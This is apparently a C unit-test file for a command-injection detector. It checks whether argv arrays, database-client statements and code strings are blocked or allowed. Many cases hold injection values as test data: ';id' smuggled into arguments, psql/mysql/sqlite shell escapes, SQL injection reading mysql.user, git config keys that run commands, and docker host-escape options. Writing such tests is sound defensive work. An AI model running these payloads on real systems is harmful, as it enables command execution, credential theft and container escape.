	assert_int_equal(code(MA_SH_LANG_PY, "run(lr=", "0x1e-5", ")"), 1);
	assert_int_equal(code(MA_SH_LANG_PY, "run(lr=", "1e-5)+(1", ")"), 1);
	assert_int_equal(code(MA_SH_LANG_PY, "run(lr=", "x-5", ")"), 1);
	/* an unclosed string after the input: nothing runs (not in perl
	 * with a BEGIN) */
	assert_int_equal(code(MA_SH_LANG_PY, "print('", "it's", "')"), 0);
	assert_int_equal(code(MA_SH_LANG_PY, "print('", "x'); import os; ('", "')"), 1);
	assert_int_equal(code(MA_SH_LANG_PERL, "print '", "x'; BEGIN{`id`} '", "'"), 1);
	/* vim's Ex command lines */
	assert_int_equal(ma_sh_ex_judge("e x|!id", 7, 2, 7), 1);
	assert_int_equal(ma_sh_ex_judge("e wow!.txt", 10, 2, 10), 0);
	assert_int_equal(ma_sh_ex_judge("e my file", 9, 2, 9), 0);
}

/* A command another program runs: find's -exec/-execdir/-ok up to ";" or
 * "+" (an argv, judged as one), watch's command (its words joined and run
 * by sh -c, as watch(1) says; with -x an argv), the -c line of flock,
 * script, su and runuser wherever it stands (su - www -c LINE). */
static void argv_commands_other_programs_run(void **state)
{
	(void)state;
	{
		const char *a[] = {"find", "/srv", "-name",     "*.log", "-exec",
		                   "sh",   "-c",   "gzip x;id", ";",     NULL};
		const char *b[] = {"find", "/srv", "-execdir", "/tmp/x.sh", "{}", "+", NULL};
		const char *c[] = {"watch", "-n", "5", "ls", "/srv/x;id", NULL};
		const char *d[] = {"watch", "-x", "sh", "-c", "ls x;id", NULL};
		const char *e[] = {"flock", "/tmp/lock", "-c", "ls x;id", NULL};
		const char *f[] = {"su", "-", "www", "-c", "ls x;id", NULL};
		const char *g[] = {"script", "-q", "--command=ls x;id", "/dev/null", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/x.sh", b, "cmd.argv0"), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", c), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", d), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", e), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", f), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", g), MOAT_BLOCK);
	}
	{
		const char *a[] = {"find", "/srv", "-name", "x;id", "-exec", "ls", "{}", ";", NULL};
		const char *b[] = {"find", "/srv",  "-exec", "gzip", "{}",
		                   ";",    "-name", "x;id",  NULL};
		const char *c[] = {"watch", "-n", "5", "ls", "/srv/my file (1).txt", NULL};
		const char *d[] = {"watch", "-x", "ls", "x;id", NULL};
		const char *e[] = {"flock", "/tmp/x;id", "ls", NULL};
		const char *f[] = {"su", "-", "www", "-c", "ls 'x;id'", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", b), MOAT_ALLOW);
		assert_int_equal(argv_check("my file (1).txt", c), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", d), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", e), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", f), MOAT_ALLOW);
	}
}

/* A value's one-byte input names no file or command and writes no
 * keyword (as the other argv rules hold): an ordinary request with "/"
 * or "." in it beside ssh -o UserKnownHostsFile=/dev/null, sed -f
 * ./fix.sed, psql -f /srv/..., git -c core.sshCommand=... passes; the
 * inputs that name the file or the command still fire. */
static void argv_one_byte_inputs_name_no_value(void **state)
{
	(void)state;
	{
		const char *a[] = {"ssh",
		                   "-o",
		                   "UserKnownHostsFile=/dev/null",
		                   "-o",
		                   "StrictHostKeyChecking=no",
		                   "deploy@10.0.0.5",
		                   "uptime",
		                   NULL};
		const char *b[] = {"sed", "-f", "./fix.sed", "in.txt", NULL};
		const char *c[] = {"psql", "-f", "/srv/migrations/001.sql", NULL};
		const char *d[] = {"ssh", "-o", "ControlPath=/tmp/ssh-%r@%h:%p", "host", NULL};
		const char *e[] = {"git", "-c", "core.sshCommand=ssh -i /keys/id", "fetch", NULL};
		assert_int_equal(argv_check("/", a), MOAT_ALLOW);
		assert_int_equal(argv_check(".", b), MOAT_ALLOW);
		assert_int_equal(argv_check("/", c), MOAT_ALLOW);
		assert_int_equal(argv_check("/", d), MOAT_ALLOW);
		assert_int_equal(argv_check(".", e), MOAT_ALLOW);
		assert_int_equal(argv_check("-", e), MOAT_ALLOW);
	}
	{
		const char *a[] = {"ssh", "-o", "PKCS11Provider=/tmp/k", "host", NULL};
		const char *b[] = {"sed", "-f", "/tmp/x.sed", "in.txt", NULL};
		const char *c[] = {"git", "-c", "core.sshCommand=/tmp/x.sh", "fetch", NULL};
		assert_int_equal(argv_rule("/tmp/k", a, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/x.sed", b, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_check("sshCommand=/tmp/x.sh", c), MOAT_BLOCK);
	}
}

/* git -c section.subsection.name=value: an input that stays inside the
 * subsection writes neither the section nor the name (git-config(1)): a
 * user's credentials or host in url.<base>.insteadOf (the usual way to
 * clone with a token), a driver's name in diff.<driver>.textconv pass;
 * an input that writes the name or the value still fires. */
static void argv_git_subsections_are_names(void **state)
{
	(void)state;
	{
		const char *a[] = {
		    "git",
		    "-c",
		    "url.https://alice:s3cret@git.example.com/.insteadOf=https://git.example.com/",
		    "clone",
		    "https://git.example.com/r.git",
		    NULL};
		const char *b[] = {"git", "-c", "diff.my-driver.textconv=cat", "diff", NULL};
		assert_int_equal(argv_check("alice:s3cret", a), MOAT_ALLOW);
		assert_int_equal(argv_check("git.example.com", a), MOAT_ALLOW);
		assert_int_equal(argv_check("my-driver", b), MOAT_ALLOW);
	}
	{
		const char *a[] = {"git", "-c", "diff.x.textconv=id", "diff", NULL};
		const char *b[] = {"git", "-c", "url.https://a/.insteadOf=ext::sh -c id", "fetch",
		                   NULL};
		const char *c[] = {"git", "-c", "core.sshCommand=id", "fetch", NULL};
		assert_int_equal(argv_check("x.textconv=id", a), MOAT_BLOCK);
		assert_int_equal(argv_check("a/.insteadOf=ext::sh", b), MOAT_BLOCK);
		assert_int_equal(argv_check("sshCommand=id", c), MOAT_BLOCK);
	}
}

/* A database client's statement on its command line (psql -c, mysql -e,
 * sqlite3 DB SQL and -cmd) is SQL to the server and, first, input to the
 * client, whose own commands run a shell: psql 15 runs a -c string that
 * starts with a backslash as a backslash command (psql -c '\! id' runs
 * id; "select 1; \! id" is a syntax error at the server), mysql(1) runs
 * \! anywhere outside quotes and "system" as a line's first word when no
 * statement is pending, sqlite3 3.40 runs an operand that starts with
 * '.' as a dot-command (.shell id runs id; .import |id reads id's
 * output). The SQL is judged as moat_check_sql judges it, in the
 * client's dialect (cmd.sql). */
static void argv_database_clients_statements(void **state)
{
	(void)state;
	{ /* the client's commands: cmd.program */
		const char *a[] = {"psql", "-c", "\\! id", NULL};
		const char *b[] = {"psql", "-d", "shop", "-c", "\\o report |id", NULL};
		const char *c[] = {"mysql", "-e", "select * from t where id = 1 \\! id", NULL};
		const char *d[] = {"mysql", "shop", "-e", "select 'x';\nsystem id\nselect ''",
		                   NULL};
		const char *e[] = {"sqlite3", "/srv/shop.db", ".shell id", NULL};
		const char *f[] = {"sqlite3", "-cmd", ".system id", "/srv/shop.db", NULL};
		const char *g[] = {"sqlite3", "/srv/shop.db", ".import |id t", NULL};
		const char *h[] = {"psql", "--command=\\copy t to program 'id'", NULL};
		assert_int_equal(argv_rule("\\! id", a, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule("report |id", b, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule("1 \\! id", c, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule("x';\nsystem id\nselect '", d, "cmd.program"),
		                 MOAT_BLOCK);
		assert_int_equal(argv_rule(".shell id", e, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule(".system id", f, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule("|id t", g, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule("t to program 'id'", h, "cmd.program"), MOAT_BLOCK);
	}
	{ /* the SQL: cmd.sql */
		const char *a[] = {"psql", "-c", "select * from t where name = 'x' or '1'='1'",
		                   NULL};
		const char *b[] = {"mysql", "--execute=select * from t where id = 1; drop table t",
		                   NULL};
		const char *c[] = {"sqlite3", "/srv/shop.db",
		                   "select * from t where n = 'x'||edit('','id')||''", NULL};
		const char *d[] = {
		    "mysql", "-e",
		    "select * from t where id = 1 union select user,password from mysql.user",
		    NULL};
		assert_int_equal(argv_rule("x' or '1'='1", a, "cmd.sql"), MOAT_BLOCK);
		assert_int_equal(argv_rule("1; drop table t", b, "cmd.sql"), MOAT_BLOCK);
		assert_int_equal(argv_rule("x'||edit('','id')||'", c, "cmd.sql"), MOAT_BLOCK);
		assert_int_equal(
		    argv_rule("1 union select user,password from mysql.user", d, "cmd.sql"),
		    MOAT_BLOCK);
	}
	{ /* a command line the client runs is judged as one */
		const char *a[] = {"psql", "-c", "\\! ls /srv/exports/x;id", NULL};
		const char *b[] = {"sqlite3", "/srv/shop.db", ".shell ls /srv/x;id", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", b), MOAT_BLOCK);
	}
	{ /* values inside the statement's literals, and the statements
	   * applications pass, stay allowed */
		const char *a[] = {"psql", "-c", "select * from t where name = 'O''Brien & sons'",
		                   NULL};
		const char *b[] = {"mysql", "-e", "select * from t where name like '%cats & dogs%'",
		                   NULL};
		const char *c[] = {"mysql", "-e", "select * from t where p = 'C:\\\\data\\\\x'",
		                   NULL};
		const char *d[] = {"sqlite3", "/srv/shop.db",
		                   "select * from t where n = 'red shoes'", NULL};
		const char *e[] = {"sqlite3", "/srv/shop.db", ".import /srv/up/a.csv t", NULL};
		const char *f[] = {"psql", "-c", "select 1", NULL};
		const char *g[] = {"psql", "-c",
		                   "select * from t where body = 'see \\! and | here'", NULL};
		const char *h[] = {"mysql", "-e", "select 'a \\! b'", NULL};
		const char *i[] = {"sqlite3", "/srv/shop.db", "select 'x.shell id'", NULL};
		const char *j[] = {"psql", "-c", "select * from t where id = 42", NULL};
		assert_int_equal(argv_check("O''Brien & sons", a), MOAT_ALLOW);
		assert_int_equal(argv_check("cats & dogs", b), MOAT_ALLOW);
		assert_int_equal(argv_check("C:\\\\data\\\\x", c), MOAT_ALLOW);
		assert_int_equal(argv_check("red shoes", d), MOAT_ALLOW);
		assert_int_equal(argv_check("a.csv", e), MOAT_ALLOW);
		assert_int_equal(argv_check("select 1", f), MOAT_ALLOW);
		assert_int_equal(argv_check("see \\! and | here", g), MOAT_ALLOW);
		assert_int_equal(argv_check("a \\! b", h), MOAT_ALLOW);
		assert_int_equal(argv_check("x.shell id", i), MOAT_ALLOW);
		assert_int_equal(argv_check("42", j), MOAT_ALLOW);
	}
	{ /* psql's \copy takes the rest of its line as its arguments: a
	   * value in the line's own quotes is data, "program" outside them
	   * or a quote that ends them is not */
		const char *a[] = {
		    "psql", "-c",
		    "\\copy (select * from t where name = 'my program') to stdout csv", NULL};
		const char *b[] = {
		    "psql", "-c", "\\copy (select * from t where name = 'pipe|name') to stdout csv",
		    NULL};
		const char *c[] = {"psql", "-c",
		                   "\\copy (select * from t where p = 'a\\b') to stdout csv", NULL};
		const char *d[] = {
		    "psql", "-c",
		    "\\copy (select * from t where id = 1) to program 'id' --) to stdout csv",
		    NULL};
		const char *e[] = {
		    "psql", "-c",
		    "\\copy (select * from t where n = 'x') to program 'id' --') to stdout csv",
		    NULL};
		assert_int_equal(argv_check("my program", a), MOAT_ALLOW);
		assert_int_equal(argv_check("pipe|name", b), MOAT_ALLOW);
		assert_int_equal(argv_check("a\\b", c), MOAT_ALLOW);
		assert_int_equal(argv_rule("1) to program 'id' --", d, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule("x') to program 'id' --", e, "cmd.program"), MOAT_BLOCK);
	}
}

/* Code that hands a string to a shell (python's os.system, subprocess's
 * shell=True; perl's and ruby's one-argument system; node's execSync,
 * spawn with shell: true; php's system): an input inside that string is
 * data to the code's lexer but a command line to sh -c, and is judged as
 * one. python3, perl 5.36 and node 20 run here: os.system('echo x;echo
 * y') runs both, subprocess.run(['echo', 'x;echo y']) and perl's
 * system("echo", "x;echo y") print the argument. */
static void argv_code_that_runs_a_shell_string(void **state)
{
	(void)state;
	{
		const char *a[] = {"python3", "-c", "import os; os.system('ls /srv/x;id')", NULL};
		const char *b[] = {"python3", "-c",
		                   "import subprocess; subprocess.run('ls /srv/x;id', shell=True)",
		                   NULL};
		const char *c[] = {"perl", "-e", "system(\"ls /srv/x;id\")", NULL};
		const char *d[] = {"perl", "-e", "system \"ls /srv/x;id\"", NULL};
		const char *e[] = {"ruby", "-e", "system('ls /srv/x;id')", NULL};
		const char *f[] = {"node", "-e",
		                   "require('child_process').execSync('ls /srv/x;id')", NULL};
		const char *g[] = {
		    "node", "-e",
		    "require('child_process').spawnSync('ls /srv/x;id', {shell: true})", NULL};
		const char *h[] = {"php", "-r", "system('ls /srv/x;id');", NULL};
		const char *i[] = {"python3", "-c", "import os; os.popen(f'''ls /srv/x;id''')",
		                   NULL};
		const char *j[] = {"python3", "-c", "import os; os.system('ls /srv/$(id)')", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", b), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", c), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", d), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", e), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", f), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", g), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", h), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", i), MOAT_BLOCK);
		assert_int_equal(argv_check("$(id)", j), MOAT_BLOCK);
	}
	{ /* an argv (a list, shell off), a string no shell reads, a value
	   * the shell line takes as one word: allowed */
		const char *a[] = {"python3", "-c",
		                   "import subprocess; subprocess.run(['ls', '/srv/x;id'])", NULL};
		const char *b[] = {"python3", "-c",
		                   "import subprocess; subprocess.run('ls /srv/x;id')", NULL};
		const char *c[] = {"perl", "-e", "system(\"ls\", \"/srv/x;id\")", NULL};
		const char *d[] = {"node", "-e",
		                   "require('child_process').spawnSync('ls', ['x;id'])", NULL};
		const char *e[] = {"python3", "-c", "print('ls /srv/x;id')", NULL};
		const char *f[] = {"python3", "-c", "import os; os.system('ls \"/srv/red shoes\"')",
		                   NULL};
		const char *g[] = {"perl", "-e", "system(\"gzip /srv/report-2024.txt\")", NULL};
		const char *h[] = {"node", "-e", "console.log('x;id'); exec('x;id')", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", b), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", c), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", d), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", e), MOAT_ALLOW);
		assert_int_equal(argv_check("red shoes", f), MOAT_ALLOW);
		assert_int_equal(argv_check("report-2024.txt", g), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", h), MOAT_ALLOW);
	}
}

/* env -S STRING splits STRING into words and runs them (coreutils 9.1
 * here: env -S 'sh -c "echo a;echo b"' prints a and b): those words and
 * the elements after STRING are judged as an argv of their own. */
static void argv_env_split_string_is_an_argv(void **state)
{
	(void)state;
	{
		const char *a[] = {"env", "-S", "sh -c 'ls x;id'", NULL};
		const char *b[] = {"/usr/bin/env", "-Sbash -c \"ls x;id\"", NULL};
		const char *c[] = {"env", "--split-string=sh -c 'ls x;id'", NULL};
		const char *d[] = {"env", "-i", "-S", "sh -c", "ls x;id", NULL};
		const char *e[] = {"sudo", "env", "-S", "sh -c 'ls x;id'", NULL};
		const char *f[] = {"env", "-S", "ssh -oProxyCommand=id host", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", b), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", c), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", d), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", e), MOAT_BLOCK);
		assert_int_equal(argv_rule("-oProxyCommand=id", f, "cmd.option"), MOAT_BLOCK);
	}
	{ /* plain words, quoted text */
		const char *a[] = {"env", "-S", "echo 'hello world'", NULL};
		const char *b[] = {"env", "-S", "gzip -k report.txt", NULL};
		const char *c[] = {"env", "-S", "echo 'x;id'", NULL};
		const char *d[] = {"env", "-S", "python3 -u", "/srv/app.py", "red shoes", NULL};
		assert_int_equal(argv_check("hello world", a), MOAT_ALLOW);
		assert_int_equal(argv_check("report.txt", b), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", c), MOAT_ALLOW);
		assert_int_equal(argv_check("red shoes", d), MOAT_ALLOW);
	}
}

/* ssh_config keywords that name a program (XAuthLocation); git keys
 * that run a command (git 2.39 here: -c tar.x.command='id >&2; cat'
 * archive --format=x runs id; gpg.ssh.defaultKeyCommand,
 * interactive.diffFilter, imap.tunnel) or name a file that decides what
 * runs (safe.directory); docker's own options that give the container
 * the host, when the input starts them. Ordinary values beside them
 * pass; so do ssh's ForwardAgent and RemoteForward (session 25: the
 * argv check reads keys with the line check's deny-lists, where they
 * are plain settings). */
static void argv_keys_and_runner_options_that_open_the_host(void **state)
{
	(void)state;
	{
		const char *c[] = {"ssh", "-o", "XAuthLocation=/tmp/x", "host", NULL};
		const char *d[] = {"git",  "-c", "tar.x.command=id", "archive", "--format=x",
		                   "HEAD", NULL};
		const char *e[] = {"git", "-c", "safe.directory=*", "status", NULL};
		const char *f[] = {"git", "-c", "gpg.ssh.defaultKeyCommand=id", "commit", NULL};
		const char *g[] = {"docker", "run", "--rm", "--privileged", "alpine:3", "ls", NULL};
		const char *h[] = {"docker", "run", "--rm", "-v/:/h", "alpine:3", "ls", NULL};
		const char *i[] = {"podman", "run", "--mount=type=bind,src=/,dst=/h", "alpine:3",
		                   NULL};
		const char *j[] = {"docker", "exec", "--pid=host", "web", "ls", NULL};
		const char *k[] = {"docker", "run", "--entrypoint=/bin/sh", "alpine:3", NULL};
		assert_int_equal(argv_rule("XAuthLocation=/tmp/x", c, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("tar.x.command=id", d, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("safe.directory=*", e, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("gpg.ssh.defaultKeyCommand=id", f, "cmd.option"),
		                 MOAT_BLOCK);
		assert_int_equal(argv_rule("--privileged", g, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("-v/:/h", h, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("--mount=type=bind,src=/,dst=/h", i, "cmd.option"),
		                 MOAT_BLOCK);
		assert_int_equal(argv_rule("--pid=host", j, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("--entrypoint=/bin/sh", k, "cmd.option"), MOAT_BLOCK);
	}
	{
		const char *a[] = {"ssh", "-o", "ConnectTimeout=5", "host", NULL};
		const char *b[] = {"ssh", "-o", "ProxyJump=bastion.example", "host", NULL};
		const char *c[] = {"git", "-c", "user.name=Dev Team", "commit", "-m", "x", NULL};
		const char *d[] = {"docker", "run", "-e", "NAME=value", "alpine:3", "ls", NULL};
		const char *e[] = {"docker", "run", "--rm", "--name=web", "alpine:3", NULL};
		const char *f[] = {"docker", "run", "alpine:3", "echo", "--privileged", NULL};
		const char *g[] = {"docker", "exec", "web-01", "ls", "-la", NULL};
		assert_int_equal(argv_check("ConnectTimeout=5", a), MOAT_ALLOW);
		assert_int_equal(argv_check("ProxyJump=bastion.example", b), MOAT_ALLOW);
		const char *h[] = {"ssh", "-o", "ForwardAgent=yes", "host", "ls", NULL};
		const char *i[] = {"ssh", "-o", "RemoteForward=8080 10.0.0.5:80", "host", NULL};
		assert_int_equal(argv_check("ForwardAgent=yes", h), MOAT_ALLOW);
		assert_int_equal(argv_check("RemoteForward=8080 10.0.0.5:80", i), MOAT_ALLOW);
		assert_int_equal(argv_check("user.name=Dev Team", c), MOAT_ALLOW);
		assert_int_equal(argv_check("NAME=value", d), MOAT_ALLOW);
		assert_int_equal(argv_check("--name=web", e), MOAT_ALLOW);
		assert_int_equal(argv_check("--privileged", f), MOAT_ALLOW);
		assert_int_equal(argv_check("web-01", g), MOAT_ALLOW);
	}
}

/* Here-documents (perl's and ruby's <<EOF, <<"EOF", <<'EOF', ruby's <<~,
 * php's <<<) and ruby's percent literals (%q() %Q() %w[] %x()) are
 * strings to the code lexer: text inside them is data (the old lexer read
 * it as code: "hello world" spanned two tokens and fired), an
 * interpolation in an interpolating one runs, and the code after a
 * here-document's marker on its line is code (perl 5.36 here: print
 * <<"EOF"; print "x\n"; prints the body, then x). */
static void argv_heredocs_and_percent_literals(void **state)
{
	(void)state;
	{
		const char *a[] = {"ruby", "-e", "puts %q(hello world)", NULL};
		const char *b[] = {"perl", "-e", "print <<EOF;\nhello world\nEOF\n", NULL};
		const char *c[] = {"ruby", "-e", "x = <<~EOS\n  hello world\n  EOS\nputs x", NULL};
		const char *d[] = {"php", "-r", "echo <<<EOT\nhello world\nEOT;\n", NULL};
		const char *e[] = {"perl", "-e", "print <<'EOF';\nhi @{[system('id')]}\nEOF\n",
		                   NULL};
		const char *f[] = {"ruby", "-e", "puts 5 << 2", NULL};
		assert_int_equal(argv_check("hello world", a), MOAT_ALLOW);
		assert_int_equal(argv_check("hello world", b), MOAT_ALLOW);
		assert_int_equal(argv_check("hello world", c), MOAT_ALLOW);
		assert_int_equal(argv_check("hello world", d), MOAT_ALLOW);
		assert_int_equal(argv_check("@{[system('id')]}", e), MOAT_ALLOW);
		assert_int_equal(argv_check("5 << 2", f), MOAT_BLOCK); /* an operator */
	}
	{
		const char *a[] = {"ruby", "-e", "puts %q(it's); system('ls /srv/x;id')", NULL};
		const char *b[] = {"perl", "-e", "print <<\"EOF\";\nhi @{[system('id')]}\nEOF\n",
		                   NULL};
		const char *c[] = {"perl", "-e",
		                   "print <<\"EOF\"; system(\"ls /srv/x;id\");\nit's\nEOF\n", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_BLOCK);
		assert_int_equal(argv_rule("@{[system('id')]}", b, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", c), MOAT_BLOCK);
	}
}

/* A wrapper whose last element is one of its options' values runs no
 * command (sudo -u root, env -u HOME, timeout -s KILL, env -S "..."): the
 * wrapper is the program. The program's index once ran one past argv's
 * end, and the check read argv[argc] (NULL): a crash in the application. */
static void argv_a_wrapper_without_a_command_is_the_program(void **state)
{
	(void)state;
	{
		const char *a[] = {"sudo", "-u", "root", NULL};
		const char *b[] = {"env", "-u", "HOME", NULL};
		const char *c[] = {"timeout", "-s", "KILL", NULL};
		const char *d[] = {"nice", "-n", "5", NULL};
		const char *e[] = {"find", "/srv", "-exec", "sudo", "-u", "www", ";", NULL};
		assert_int_equal(argv_check("root", a), MOAT_ALLOW);
		assert_int_equal(argv_check("HOME", b), MOAT_ALLOW);
		assert_int_equal(argv_check("KILL", c), MOAT_ALLOW);
		assert_int_equal(argv_check("5 5", d), MOAT_ALLOW);
		assert_int_equal(argv_check("www", e), MOAT_ALLOW);
	}
	{ /* the wrapper's name is still the program's: an input that is it */
		const char *a[] = {"/usr/bin/sudo", "-u", "root", NULL};
		assert_int_equal(argv_rule("/usr/bin/sudo", a, "cmd.argv0"), MOAT_BLOCK);
	}
}

/* find -exec find -exec ... and watch -x watch -x ... nest argv checks;
 * each level once held watch's 4 KB line: 3,000 levels overran an 8 MB
 * stack, 200 a thread's 256 KB. Run in a thread of 256 KB (no cmocka
 * assertion there: the verdicts come back in the struct). */
struct argv_nest {
	const char **argv;
	int v;
};

static void *argv_nest_run(void *p)
{
	struct argv_nest *t = p;
	struct moat_request_info ri = {.method = "GET", .endpoint = "/tools/run", .policy = pol};
	struct moat_request *r = NULL;

	t->v = -1;
	if (moat_request_begin(NULL, &ri, &r) != MOAT_ALLOW)
		return NULL;
	if (moat_request_add_input(r, MOAT_INPUT_QUERY, "q", "x;id", 4) == 0)
		t->v = moat_check_argv(r, t->argv, -1);
	moat_request_end(r);
	return NULL;
}

static int argv_nest_verdict(const char **argv)
{
	pthread_attr_t at;
	pthread_t th;
	struct argv_nest t = {argv, -2};

	assert_int_equal(pthread_attr_init(&at), 0);
	assert_int_equal(pthread_attr_setstacksize(&at, 256 * 1024), 0);
	assert_int_equal(pthread_create(&th, &at, argv_nest_run, &t), 0);
	assert_int_equal(pthread_join(th, NULL), 0);
	pthread_attr_destroy(&at);
	return t.v;
}

static void argv_nested_commands_keep_the_stack_bounded(void **state)
{
	enum { LEVELS = 200 };
	const char **a = calloc(2 * LEVELS + 8, sizeof *a);
	int n;

	(void)state;
	assert_non_null(a);
	for (int pass = 0; pass < 2; pass++) {
		n = 0;
		for (int i = 0; i < LEVELS; i++) {
			a[n++] = pass ? "find" : "watch";
			a[n++] = pass ? "-exec" : "-x";
		}
		a[n++] = "ls";
		a[n] = NULL;
		assert_int_equal(argv_nest_verdict(a), MOAT_ALLOW);
	}
	{ /* a few levels are still judged */
		const char *b[] = {"watch", "-x", "watch", "-x", "sh", "-c", "ls x;id", NULL};
		const char *c[] = {"find", "/srv", "-exec",   "find", "/tmp", "-exec",
		                   "sh",   "-c",   "ls x;id", ";",    NULL};
		assert_int_equal(argv_nest_verdict(b), MOAT_BLOCK);
		assert_int_equal(argv_nest_verdict(c), MOAT_BLOCK);
	}
	free(a);
}

/* The command a container runner runs without "--": kubectl exec POD CMD
 * (kubectl before 1.2x took it with a warning; -p POD in kubectl 1.0),
 * kubectl run NAME --image=I CMD (the container's arguments), lxc exec
 * C CMD, docker compose exec SERVICE CMD and compose run, docker-compose
 * exec: judged as an argv of its own, as after "--" (its shell's -c
 * script, its program, a database client's statement). The pod's name,
 * other subcommands (kubectl logs, compose logs) and ordinary arguments
 * pass. */
static void argv_container_commands_without_dashdash(void **state)
{
	(void)state;
	{
		const char *a[] = {"kubectl", "exec", "api-0", "sh", "-c", "ls x;id", NULL};
		const char *b[] = {"kubectl", "exec", "-n", "prod",    "api-0", "-c",
		                   "app",     "sh",   "-c", "ls x;id", NULL};
		const char *c[] = {"kubectl", "exec", "api-0", "/tmp/x.sh", NULL};
		const char *d[] = {"kubectl", "exec", "-p",        "api-0",
		                   "-c",      "app",  "/tmp/x.sh", NULL};
		const char *e[] = {"kubectl",  "run",       "tmp", "--image",
		                   "alpine:3", "/tmp/x.sh", NULL};
		const char *f[] = {"kubectl", "exec", "db-0",
		                   "psql",    "-c",   "select * from t where name = 'x' or '1'='1'",
		                   NULL};
		const char *g[] = {"docker", "compose", "exec", "web", "sh", "-c", "ls x;id", NULL};
		const char *h[] = {"docker", "compose", "-f", "ops.yml", "run", "--rm",
		                   "web",    "sh",      "-c", "ls x;id", NULL};
		const char *i[] = {"docker-compose", "exec", "-T", "web", "sh", "-c",
		                   "ls x;id",        NULL};
		const char *j[] = {"lxc", "exec", "c1", "sh", "-c", "ls x;id", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", b), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/x.sh", c, "cmd.argv0"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/x.sh", d, "cmd.argv0"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/x.sh", e, "cmd.argv0"), MOAT_BLOCK);
		assert_int_equal(argv_rule("x' or '1'='1", f, "cmd.sql"), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", g), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", h), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", i), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", j), MOAT_BLOCK);
	}
	{ /* with "--", as before */
		const char *a[] = {
		    "kubectl", "run", "tmp", "--image=alpine:3", "--rm", "-i", "--restart=Never",
		    "--",      "sh",  "-c",  "ls x;id",          NULL};
		const char *b[] = {"kubectl", "--kubeconfig", "/etc/k.conf", "exec",    "api-0",
		                   "--",      "sh",           "-c",          "ls x;id", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", b), MOAT_BLOCK);
	}
	{
		const char *a[] = {"kubectl", "exec", "api-0", "ls", "x;id", NULL};
		const char *b[] = {"kubectl", "exec", "api-0", "ls", "my file (1).txt", NULL};
		const char *c[] = {"kubectl", "exec", "api-0", "ls", NULL};
		const char *d[] = {"kubectl", "logs", "api-0", "sh", "-c", "ls x;id", NULL};
		const char *e[] = {"kubectl", "get", "pods", "-l", "app=x;id", NULL};
		const char *f[] = {"docker", "compose", "logs", "web", "sh", "-c", "ls x;id", NULL};
		const char *g[] = {"kubectl", "exec", "api-0", "--", "sh", "-c", "ls 'x;id'", NULL};
		const char *h[] = {"lxc", "exec", "c1", "ls", "x;id", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_ALLOW);
		assert_int_equal(argv_check("my file (1).txt", b), MOAT_ALLOW);
		assert_int_equal(argv_check("api-0", c), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", d), MOAT_ALLOW);
		assert_int_equal(argv_check("app=x;id", e), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", f), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", g), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", h), MOAT_ALLOW);
	}
}

